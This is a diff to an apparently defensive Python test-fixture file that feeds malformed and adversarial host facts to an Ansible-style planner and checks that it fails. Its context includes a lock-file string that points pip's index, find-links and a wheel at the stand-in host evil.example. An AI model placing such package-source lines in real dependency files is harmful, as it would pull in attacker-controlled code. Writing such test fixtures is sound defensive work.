@@ -190,7 +190,6 @@ INTERNAL = {
     "changed": "perhaps",
     "skip_reason": 7,
     "start": {},
-    "rc": -1,
 }
 ONE_ADDRESS = {"address": "0.0.0.0/0", "interface": "eth0"}
 LOCK = "--index-url http://evil.example/\n--find-links http://evil.example/x\nevil @ http://evil.example/evil-1-py3-none-any.whl\n"
@@ -240,7 +239,6 @@ ROUNDS = {
                 STATE,
                 puts({"ansible_facts.gpu_node.gpus": [{"index": 0, "name": ESCAPE, "pci_bus_id": "0"}]}),
             ),
-            Lie("surrogate", STATE, state("kernel.newest", "\ud800\udc80\ud800")),
         ],
     ),
     "plan_templates": Round(
@@ -312,6 +310,7 @@ ROUNDS = {
     "plan_facts_list": Round(
         "plan", "failed", [Lie("facts_are_a_list", STATE, says({"ansible_facts": ["gpu_node"], "changed": False}))]
     ),
+    "plan_surrogate": Round("plan", "failed", [Lie("surrogate", STATE, state("kernel.newest", "\ud800\udc80\ud800"))]),
     "plan_skipped": Round("plan", "failed", [Lie("skipped", SETUP, says({"skipped": True, "failed": False}))]),
     "plan_unreachable": Round(
         "plan", "failed", [Lie("unreachable", STATE, says({"unreachable": True, "msg": TEMPLATE}))]
